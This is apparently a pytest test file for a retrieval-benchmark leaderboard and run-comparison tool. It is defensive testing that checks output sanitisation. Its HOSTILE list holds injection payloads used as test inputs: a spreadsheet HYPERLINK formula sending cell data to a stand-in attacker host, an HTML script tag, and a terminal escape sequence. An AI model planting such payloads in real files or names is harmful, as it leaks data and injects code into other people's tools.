"""The leaderboard (``r2med_tasks.rank_systems``, ``r2med leaderboard``) and ``compare_runs``
(``r2med compare``): the published table recomputed exactly, runs merged at their rank, bad files
skipped with one line. Their logic is tested on the library; the command line's formats,
refusals and output files on the command."""

import csv
import json
from pathlib import Path

import pytest

import r2med_tasks as r2med
from conftest import board_rows
from r2med_tasks.errors import UserError
from r2med_tasks.board.leaderboard import merge, ranked, select
from r2med_tasks.board.render import markdown_cell
from r2med_tasks.board.sources import published_rows
from r2med_tasks.board.published import PUBLISHED_CSV
from r2med_tasks.tasks.specs import R2MED_TASKS

BIO, PMC, IIYI = "R2MEDBiologyRetrieval", "R2MEDPMCClinicalRetrieval", "R2MEDIIYiClinicalRetrieval"


def published():
    with PUBLISHED_CSV.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def board(*folders, commands: bool = False, **options) -> tuple[list[dict], list[str]]:
    """The leaderboard of ``folders`` (none given: ./results when it exists) as ``--format json``
    writes its rows, and its warnings."""
    shown = r2med.rank_systems(folders or None, statistics=not commands, **options)
    return shown.records(commands=commands), shown.warnings


def test_published_ranks_and_averages_reproduced():
    rows = ranked(merge(published_rows()))
    expected = published()
    assert len(rows) == len(expected) == 69
    for rank, (row, record) in enumerate(zip(rows, expected), 1):
        assert (rank, row.system) == (int(record["rank"]), record["name"])
        assert row.average == float(record["avg"])  # computed from the eight values


PUBLISHED_WITH_COMMANDS = [r for r in published() if r["command"]]


def test_every_published_row_has_a_command(plugins, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert [r["name"] for r in published() if not r["command"]] == []  # BGE-Reasoner-Embed-0928: reason-embed
    rows, _ = board(commands=True)
    assert [(r["system"], r["command"] or "") for r in rows] == [(r["name"], r["command"]) for r in published()]
    assert set(rows[0]) == {"rank", "system", "average", "command", "live_command", "placeholders", "section",
                            "local_data"}
    assert all(r["section"] == "board" and r["placeholders"] == {} for r in rows)
    agents = [r for r in rows if "-o source=" in (r["command"] or "") and "search-" in r["command"]]
    assert len(agents) == 16 and all(r["live_command"] for r in agents)
    assert all(r["live_command"] is None for r in rows if r not in agents)


@pytest.mark.parametrize("row", [r for r in PUBLISHED_WITH_COMMANDS if "--plugin search-" in r["command"]],
                         ids=lambda r: r["name"])
def test_an_agent_row_runs_live_under_its_own_name(row, plugins, tmp_path):
    """The live command of a published agent row: the agent over a vLLM server, searching the task's
    corpus, named as the row (its results join the row's name, never its published numbers)."""
    from conftest import dry_run_plan
    from r2med_tasks.board.sources import live_command

    command = live_command(row["command"])
    assert "-o llm=vllm:" in command and "-o source=" not in command
    assert dry_run_plan(command, tmp_path)["pipeline"] == row["name"]


def test_a_sweep_of_the_commands_table_runs_only_the_replays(run_cli, tmp_path):
    code, table, err = run_cli("leaderboard", "--commands", "--tasks", "Biology")
    assert code == 0 and "live: #" in table
    (tmp_path / "board.txt").write_text(table)
    code, out, err = run_cli("sweep", tmp_path / "board.txt", "--tasks", "Biology", "--dry-run", "--json",
                             "--output", tmp_path / "out")
    assert code == 0, err
    jobs = json.loads(out)
    commands = {r["command"] for r in published() if r["command"]}
    agents = [" ".join(j["args"]) for j in jobs if "--plugin search-" in " ".join(j["args"])]
    assert len(jobs) == len(commands) and len(agents) == 16 and all("-o source=" in a for a in agents)


@pytest.mark.parametrize("record", PUBLISHED_WITH_COMMANDS, ids=[r["name"] for r in PUBLISHED_WITH_COMMANDS])
def test_a_published_command_builds_the_row_it_names(record, plugins, tmp_path):
    """Dry-run the command: its pipeline carries the row's name, so its results merge with the row."""
    from conftest import dry_run_plan

    plan = dry_run_plan(record["command"], tmp_path)
    assert plan["pipeline"] == record["name"] and len(plan["tasks"]) == 8


def test_a_folder_without_r2med_results_is_named(evaluate, tmp_path):
    evaluate("bm25", output="res")
    rows, warnings = board(tmp_path / "res", published="none")
    assert rows == [] and warnings == [
        f"{tmp_path / 'res'}: no results of R2MED tasks (runs on other tasks, such as sample, are not ranked)"]


def write_result(folder: Path, task: str, ndcg: float, name: str) -> None:
    """A TaskResult on R2MED's official data (mteb's pinned revision)."""
    folder.mkdir(parents=True, exist_ok=True)
    revision = next(t.revision for t in R2MED_TASKS if t.name == task)
    (folder / f"{task}.json").write_text(json.dumps({
        "dataset_revision": revision, "task_name": task, "mteb_version": "2.0", "evaluation_time": 1.0,
        "scores": {"test": [{"main_score": ndcg, "ndcg_at_10": ndcg, "hf_subset": "default", "languages": ["eng-Latn"]}]}}))
    (folder / "model_meta.json").write_text(json.dumps({"name": name, "revision": folder.name}))


def test_a_run_lands_at_its_rank_and_incomplete_ones_after(plugins, tmp_path):
    results = tmp_path / "results"
    for task in R2MED_TASKS:  # 0.3315 on every dataset -> 33.15 average: between 33.29 and 33.12
        write_result(results / "acme__ranker" / "v1", task.name, 0.3315, "acme/ranker")
    write_result(results / "acme__partial" / "v1", R2MED_TASKS[0].name, 0.99, "acme/partial")
    (results / "acme__ranker" / "v1" / "notes.json").write_text("{not json")  # a foreign file
    rows, warnings = board(results)
    names = [r["system"] for r in rows]
    i = names.index("acme/ranker")
    assert rows[i]["average"] == 33.15
    assert rows[i - 1]["average"] >= 33.15 >= rows[i + 1]["average"]
    assert names[-1] == "acme/partial" and "(incomplete)" in rows[-1]["source"]
    assert len(warnings) == 1 and "notes.json: not an mteb TaskResult" in warnings[0]


def test_results_written_by_r2med_run_merge(evaluate, tmp_path, data_dir):
    """A fresh r2med-run result (here: bm25 on three R2MED-named folders) appears under its name."""
    evaluate("bm25", tasks=None, data_dir=data_dir, output="res")
    (row,), warnings = board_rows(tmp_path / "res")
    assert row.system == "BM25" and row.average is None and row.scores.get(BIO) is not None
    assert row.local is True and warnings == []


def test_filters_and_formats(run_cli, tmp_path, monkeypatch):
    """The filters on the rows; the markdown and csv formats and --output on the command."""
    board_ = ranked(merge(published_rows()))
    rows, _ = select(board_, retriever="bm25", top=3)
    assert [r.system for r in rows] == ["o3-mini + BM25", "GPT4o + BM25", "Search-O1 (QwQ-32b) + BM25"]
    rows, tasks = select(board_, tasks=[PMC, IIYI], top=1)
    assert tasks == [PMC, IIYI] and len(rows) == 1
    monkeypatch.chdir(tmp_path)
    rows, _ = board(tasks="clinical-case", top=1)  # the columns of the chosen datasets
    assert set(rows[0]) >= {"PMC-Clinical", "IIYi-Clinical"} and "Biology" not in rows[0]
    code, out, _ = run_cli("leaderboard", "--format", "markdown", "--top", "2")
    assert out.splitlines()[2].startswith("| 1 | BGE-Reasoner-Embed-0928 |")
    code, _, _ = run_cli("leaderboard", "--format", "csv", "--output", tmp_path / "board.csv")
    assert (tmp_path / "board.csv").read_text().splitlines()[0].startswith("Rank,System,")


def test_group_ranks_by_its_own_average():
    from r2med_tasks.scoring.evaluation import leaderboard_average

    rows, _ = select(ranked(merge(published_rows())), tasks=[PMC, IIYI])
    expected = sorted((r for r in published() if r["PMC-Clinical"]),
                      key=lambda r: -leaderboard_average([float(r["PMC-Clinical"]), float(r["IIYi-Clinical"])]))
    assert [r.system for r in rows[:5]] == [r["name"] for r in expected[:5]]


def test_compare_two_runs(run_cli, evaluate, tmp_path, data_dir):
    """Differences and p-values from the per-query files, checked against the significance module
    fed the same numbers read independently; ``r2med compare --json`` prints the library's result."""
    from r2med_tasks.scoring.significance import compare

    folders = []
    for options in ({}, {"k1": 2.0, "b": 0.9}):
        (folder,) = evaluate("bm25", **options, tasks=None, data_dir=data_dir, output="res").results_dirs
        folders.append(Path(folder))  # --data-dir: one (local-data) folder
    result = r2med.compare_runs(*folders, trials=2000).to_json()
    code, out, err = run_cli("compare", *map(str, folders), "--json", "--trials", "2000")
    assert code == 0 and json.loads(out) == result, err  # the command and the library cannot drift apart

    def read(folder):
        return {p.name.split(".")[0]: {line.split("\t")[0]: float(line.split("\t")[1])
                                       for line in p.read_text().splitlines()[1:]}
                for p in folder.glob("*.per_query.tsv")}

    a, b = read(folders[0]), read(folders[1])
    assert result == {**compare(a, b, trials=2000), "data_differences": {}}  # both on the same data
    for task, t in result["tasks"].items():
        assert t["difference"] == sum(b[task].values()) / len(b[task]) - sum(a[task].values()) / len(a[task])
    with pytest.raises(UserError, match="no <Task>.per_query.tsv files"):
        r2med.compare_runs(tmp_path, folders[1])


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB=1", "\rCR=1",
           "<script>alert(1)</script>|</table>"]


def hostile_results(folder: Path) -> None:
    for i, name in enumerate(HOSTILE):
        for task in R2MED_TASKS:
            write_result(folder / f"evil__{i}" / "v1", task.name, 0.5, name)


def test_csv_cells_cannot_become_formulas(run_cli, tmp_path):
    """OWASP's advice: a cell starting with = + - @ tab or CR gets a leading apostrophe."""
    hostile_results(tmp_path / "results")
    code, out, err = run_cli("leaderboard", str(tmp_path / "results"), "--no-published", "--format", "csv")
    assert code == 0, err
    systems = [row[1] for row in list(csv.reader(out.splitlines()))[1:]]
    assert sorted(systems) == sorted(["'" + HOSTILE[0], "'+1+2", "'-2+3", "'@SUM(A1:A9)", "'\\tTAB=1", "'\\rCR=1",
                                      HOSTILE[6]])
    assert not any(line.startswith(("=", "+", "-", "@", "\t", "\r")) for line in out.split(","))


def test_markdown_escapes_html_and_pipes(run_cli, tmp_path):
    hostile_results(tmp_path / "results")
    code, out, err = run_cli("leaderboard", str(tmp_path / "results"), "--no-published", "--format", "markdown")
    assert code == 0, err
    assert "<" not in out and ">" not in out
    assert "| &lt;script&gt;alert\\(1\\)&lt;/script&gt;\\|&lt;/table&gt; |" in out
    assert all(line.count(" | ") == out.splitlines()[0].count(" | ") for line in out.splitlines()[2:])  # no extra cell


def test_table_fits_120_columns_and_writes_its_text(run_cli, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("COLUMNS", "120")  # on a pipe, as a 120-column terminal's
    for task in R2MED_TASKS:
        write_result(tmp_path / "results" / "acme__long" / "v1", task.name, 0.4, "acme/" + "very-long-name-" * 12)
    code, out, err = run_cli("leaderboard", "results")
    assert code == 0, err
    lines = out.splitlines()
    assert max(map(len, lines)) <= 120
    body = [line for line in lines if line[:5].strip().isdigit()]
    assert len(body) == 70 and len(lines) < 2 * len(body) + 12  # a row takes one or two lines, not 5-12
    code, _, err = run_cli("leaderboard", "results", "--output", tmp_path / "board.txt")
    assert code == 0 and (tmp_path / "board.txt").read_text() == out
    code, wide, _ = run_cli("leaderboard", "results", "--wide", "--top", "3")
    assert "Rewriter" in wide and "published (R2MED/r2med.github.io index.html @c85a571)" in wide
    assert "<rich" not in (tmp_path / "board.txt").read_text()


@pytest.mark.parametrize("value", ["1e9", "-5", "NaN", "Infinity", "1.0000001"])
def test_a_score_that_is_no_score_is_skipped_with_a_warning(tmp_path, value):
    results = tmp_path / "results"
    for task in R2MED_TASKS:
        write_result(results / "acme__ranker" / "v1", task.name, 0.3, "acme/ranker")
    bad = results / "acme__ranker" / "v1" / f"{R2MED_TASKS[0].name}.json"
    bad.write_text(bad.read_text().replace('"main_score": 0.3', f'"main_score": {value}'))
    (row,), warnings = board_rows(results)
    assert warnings == [f"{bad}: nDCG@10 {float(value)!r} is not a score between 0 and 1; skipped"]
    assert BIO not in row.scores and row.scores["R2MEDBioinformaticsRetrieval"] == 30.0 and row.average is None


def test_names_from_folders_reach_the_terminal_printable(run_cli, tmp_path, monkeypatch):
    monkeypatch.setenv("COLUMNS", "120")  # room for the name on one line
    name = "\x1b]0;pwned\x07[bold]acme[/bold]"
    for task in R2MED_TASKS:
        write_result(tmp_path / "results" / "acme__x" / "v1", task.name, 0.3, name)
    (tmp_path / "results" / "acme__x" / "v1" / "\x1b[2Jbad.json").write_text("{")
    for fmt in ("table", "markdown", "csv"):
        code, out, err = run_cli("leaderboard", str(tmp_path / "results"), "--no-published", "--format", fmt)
        assert code == 0 and "\x1b" not in out + err and "\x07" not in out
        shown = "\\x1b]0;pwned\\x07[bold]acme[/bold]"  # escaped, markup not applied
        assert (markdown_cell(shown) if fmt == "markdown" else shown) in out
    assert "\\x1b[2Jbad.json: not an mteb TaskResult" in err


@pytest.mark.parametrize("tasks, expected", [
    ("Biology", ["Biology"]), ("r2med", [t.short_name for t in R2MED_TASKS]),
    ("clinical-case,MedQA-Diag", ["MedQA-Diag", "PMC-Clinical", "IIYi-Clinical"]),
    ("R2MEDIIYiClinicalRetrieval", ["IIYi-Clinical"])])
def test_tasks_takes_datasets_groups_and_r2med(plugins, tmp_path, monkeypatch, tasks, expected):
    from r2med_tasks.scoring.evaluation import leaderboard_average

    monkeypatch.chdir(tmp_path)
    rows, _ = board(tasks=tasks)
    assert [k for k in rows[0] if k in {t.short_name for t in R2MED_TASKS}] == expected
    def average(r):  # all eight: the published average (BGE-Reasoner has no per-dataset values)
        return float(r["avg"]) if len(expected) == 8 else leaderboard_average([float(r[d]) for d in expected])

    best = max((r for r in published() if len(expected) == 8 or all(r[d] for d in expected)), key=average)
    assert (rows[0]["system"], rows[0]["average"]) == (best["name"], average(best))  # max: the first of ties


def test_tasks_other_than_r2med_are_refused_in_one_line(run_cli, tmp_path):
    with pytest.raises(UserError, match="--tasks sample: not an R2MED dataset"):
        r2med.rank_systems(tasks=["sample"])
    code, out, err = run_cli("leaderboard", "--tasks", "sample")
    assert code == 2 and out == "" and len(err.strip().splitlines()) == 1 and "not an R2MED dataset" in err
    code, _, err = run_cli("leaderboard", "--tasks", "Biolgy")
    assert code == 2 and "did you mean 'Biology'" in err


@pytest.mark.parametrize("options, message", [
    ({"folders": "nowhere"}, "nowhere: not a folder of results"),
    ({"mteb_results": "nowhere"}, "nowhere: not a folder of results"),
    ({"published": "some"}, "rank_systems(published='some'): one of leaderboard, papers, all, none"),
    ({"top": 0}, "rank_systems(top=0): give at least 1")])
def test_the_library_refuses_bad_input_in_one_line(plugins, tmp_path, monkeypatch, options, message):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(UserError) as refused:
        r2med.rank_systems(**options)
    assert str(refused.value) == message


def per_query(folder: Path, scores: dict[str, dict[str, float]]) -> Path:
    folder.mkdir(parents=True)
    for task, values in scores.items():
        (folder / f"{task}.per_query.tsv").write_text(
            "query_id\tndcg_at_10\n" + "".join(f"{q}\t{v}\n" for q, v in values.items()))
    return folder


def test_compare_averages_r2med_tasks_only(run_cli, plugins, tmp_path):
    """The sample task is compared, shown apart, and left out of the average (as the leaderboard)."""
    bio, pmc, sample = "R2MEDBiologyRetrieval", "R2MEDPMCClinicalRetrieval", "R2MEDSampleRetrieval"
    a = per_query(tmp_path / "a", {bio: {"q1": 0.2, "q2": 0.4}, pmc: {"q1": 0.5}, sample: {"q1": 0.0}})
    b = per_query(tmp_path / "b", {bio: {"q1": 0.3, "q2": 0.5}, pmc: {"q1": 0.7}, sample: {"q1": 1.0}})
    unchecked = {"allow_different_data": True}  # bare per-query files store no data identity to check
    result = r2med.compare_runs(a, b, trials=10, **unchecked)
    assert result.average["n_tasks"] == 2 and result.tasks_outside_average == [sample]
    assert result.average["difference"] == pytest.approx(((0.4 - 0.3) + (0.7 - 0.5)) / 2)
    assert result.tasks[sample]["difference"] == 1.0
    code, out, _ = run_cli("compare", str(a), str(b), "--trials", "10", "--allow-different-data")
    assert "Average of 2 R2MED tasks" in out and "+15.00" in out and "not averaged" in out
    assert "Holm" in out.split("not averaged", 1)[1].splitlines()[0]  # its p-value counts in the correction
    assert list(r2med.compare_runs(a, b, trials=10, tasks="clinical-case", **unchecked).tasks) == [pmc]
    code, out, _ = run_cli("compare", str(a), str(b), "--trials", "10", "--allow-different-data", "--tasks",
                           "R2MEDBiologyRetrieval,sample")
    assert code == 0 and "Average of 1 R2MED task " in out  # one task, said as one
    assert r2med.compare_runs(a, b, trials=10, tasks=["sample"], **unchecked).average is None


@pytest.mark.parametrize("value", ["-0.5", "1.5", "nan", "inf"])
def test_compare_refuses_a_per_query_value_that_is_no_score(plugins, tmp_path, value):
    a = per_query(tmp_path / "a", {"R2MEDBiologyRetrieval": {"q1": 0.2}})
    b = per_query(tmp_path / "b", {"R2MEDBiologyRetrieval": {"q1": float(value)}})
    with pytest.raises(UserError) as refused:
        r2med.compare_runs(a, b)
    assert str(refused.value).startswith(f"{b / 'R2MEDBiologyRetrieval.per_query.tsv'}: query q1: nDCG@10 ")
    assert "\n" not in str(refused.value)


def test_compare_refuses_a_value_that_is_no_score_in_one_line(run_cli, tmp_path):
    a = per_query(tmp_path / "a", {"R2MEDBiologyRetrieval": {"q1": 0.2}})
    b = per_query(tmp_path / "b", {"R2MEDBiologyRetrieval": {"q1": 1.5}})
    code, out, err = run_cli("compare", str(a), str(b))
    assert code == 2 and out == "" and len(err.strip().splitlines()) == 1
    assert f"{b / 'R2MEDBiologyRetrieval.per_query.tsv'}: query q1: nDCG@10" in err and "Traceback" not in err


def test_export_mteb(run_cli, evaluate, tmp_path):
    """A run laid out for the MTEB results repository loads with mteb; what blocks a PR is listed."""
    import mteb

    from r2med_tasks.results.export import export_run

    from conftest import on_the_benchmark

    (sample,) = map(Path, evaluate("bm25", output="res").results_dirs)
    run_dir = on_the_benchmark(sample, tmp_path / sample.name)
    export = export_run(run_dir, tmp_path / "repo", create=True)
    target, problems = export.target, export.problems
    assert target == tmp_path / "repo" / "results" / "r2med__bm25" / run_dir.name
    assert sorted(p.name for p in target.iterdir()) == sorted(  # (and run_settings.jsonl, when the run has one)
        p.name for p in run_dir.iterdir() if p.suffix == ".json" or p.name == "run_settings.jsonl")
    assert any("'r2med/bm25' is not registered in mteb" in p for p in problems)
    loaded = mteb.ResultCache(tmp_path / "repo").load_results(include_remote=False)
    assert [m.model_name for m in loaded.model_results] == ["r2med/bm25"]
    code, _, err = run_cli("export-mteb", str(tmp_path), str(tmp_path / "repo"))
    assert code == 2 and "no model_meta.json" in err


def test_shipped_published_results_are_generated_and_load_in_mteb(tmp_path):
    """results/ ships the published rows as mteb results: regenerating them from the CSV gives the
    same files, mteb loads them, and their scores give back the published values."""
    import mteb

    from r2med_tasks.scoring.evaluation import leaderboard_value
    from tools.published_results import write_published

    shipped = Path(__file__).parent.parent / "results"
    written = write_published(tmp_path / "results")
    for path in written:
        assert (shipped / path.relative_to(tmp_path / "results")).read_text() == path.read_text(), path
    loaded = mteb.ResultCache(tmp_path).load_results(include_remote=False)
    by_name = {m.model_name: m for m in loaded.model_results}
    o3 = by_name["r2med-leaderboard/o3-mini_BM25"]
    values = {t.task_name: leaderboard_value(t.scores["test"][0]["main_score"]) for t in o3.task_results}
    record = next(r for r in published() if r["name"] == "o3-mini + BM25")
    assert values == {t.name: float(record[t.short_name]) for t in R2MED_TASKS}


def test_shipped_rows_are_not_counted_twice(plugins, tmp_path, monkeypatch):
    monkeypatch.chdir(Path(__file__).parent.parent)  # ./results holds the shipped published results
    rows, _ = board()
    assert len(rows) == 69


def test_results_written_by_mteb_itself_merge(tmp_path):
    """A folder filled by mteb's own ResultCache.save_to_cache ranks like any other."""
    import mteb
    from mteb.results import TaskResult

    cache = mteb.ResultCache(tmp_path / "cache")
    meta = mteb.get_model_meta("sentence-transformers/all-MiniLM-L6-v2")
    for task in R2MED_TASKS:
        scores = {"ndcg_at_10": 0.2, "main_score": 0.2}
        cache.save_to_cache(TaskResult.from_task_results(mteb.get_task(task.name), {"test": {"default": scores}}, 1.0),
                            meta)
    rows, warnings = board_rows(tmp_path / "cache" / "results")
    row = next(r for r in rows if r.system == "sentence-transformers/all-MiniLM-L6-v2")
    assert row.average == 20.0 and not row.local and warnings == []


def test_run_summary_sets_a_run_beside_its_published_row(official_hub, run_cli, tmp_path):
    """BM25 over all eight tasks of R2MED's (locally served) hub data: each value and the average
    beside BM25's published ones, with the difference."""
    args = ["run", "--plugin", "bm25", "--output", tmp_path / "out", "--cache-dir", tmp_path / "c"]
    code, out, err = run_cli(*args, "--json")
    assert code == 0, err
    summary = json.loads(out)
    bm25 = next(r for r in published() if r["name"] == "BM25")
    assert [t["published_ndcg_at_10_x100"] for t in summary["tasks"]] == [float(bm25[t.short_name]) for t in R2MED_TASKS]
    assert summary["published_average_x100"] == 15.13
    code, out, _ = run_cli(*args)
    ours = summary["average_ndcg_at_10_x100"]
    assert "Published" in out and f"{ours:.2f} │     15.13 │ {ours - 15.13:+.2f}" in out
    assert "the R2MED leaderboard's row 'BM25'" in out


def test_a_pipeline_without_a_published_row_shows_no_comparison(run_cli, tmp_path):
    code, out, _ = run_cli("run", "--plugin", "bm25-okapi", "--tasks", "sample", "--output", tmp_path, "--json")
    assert all(t["published_ndcg_at_10_x100"] is None for t in json.loads(out)["tasks"])
    code, out, _ = run_cli("run", "--plugin", "bm25-okapi", "--tasks", "sample", "--output", tmp_path)
    assert "Published" not in out
